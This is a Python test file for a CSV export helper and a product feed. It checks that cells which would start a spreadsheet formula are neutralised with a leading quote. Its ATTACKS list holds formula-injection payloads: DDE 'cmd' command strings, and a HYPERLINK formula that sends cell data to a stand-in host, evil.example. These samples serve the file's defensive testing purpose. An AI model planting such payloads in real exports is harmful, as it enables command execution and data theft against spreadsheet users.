"""CSV exports (shared/csv_export.py): a text cell a spreadsheet would run as a formula is
written with a leading quote; numbers the platform writes stay numbers."""

import csv
import io

import pytest

from services.trade_promotion import feed
from shared.csv_export import csv_text, safe_cell

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?d="&A2,"Xem")',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Chè Shan tuyết", "OCOP-19-2026-00001", "https://x/verify/1", "", "'=quoted", " =1"]
)
def test_other_text_is_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [4, -3, 2.5, -0.5, None])
def test_numbers_the_platform_writes_stay_numbers(value):
    assert safe_cell(value) == value


def test_every_row_and_the_header_go_through_the_rule():
    text = csv_text(["booth", "=name"], [[1, ATTACKS[0]], [-2, "Miến dong"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["booth", "'=name"],
        ["1", "'" + ATTACKS[0]],
        ["-2", "Miến dong"],
    ]


def entry(product_id: str, name: str, producer: str) -> dict:
    return {
        "_id": product_id,
        "name": name,
        "stars": 4,
        "producer_name": producer,
        "group": "food",
        "certificate_number": f"OCOP-19-2026-{product_id}",
        "ward_name": "Xã Đồng Phúc",
        "province_name": "Thái Nguyên",
        "listed": True,
    }


def test_the_feed_neutralises_names_and_what_is_made_of_them():
    entries = [entry(f"p{n}", name, f"@HTX {n}") for n, name in enumerate(ATTACKS[:5])]
    rows = feed.rows(entries, "https://ocop.example", "https://verify.example")
    read = list(csv.DictReader(io.StringIO(feed.as_csv(rows))))
    assert [row["title"] for row in read] == ["'" + name for name in ATTACKS[:5]]
    assert all(row["description"].startswith("'") for row in read)  # begins with the name
    assert all(row["brand"].startswith("'@HTX ") for row in read)
    assert {row["ocop_stars"] for row in read} == {"4"}
    assert feed.rows(entries, "https://o", "https://v")[0]["title"] == ATTACKS[0]  # JSON as is


def test_a_carriage_return_inside_a_cell_does_not_break_the_row():
    text = csv_text(["a", "b"], [["Chè\rbúp", "x"], ["Miến\r\ndong", "y"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a", "b"],
        ["Chè\rbúp", "x"],
        ["Miến\r\ndong", "y"],
    ]
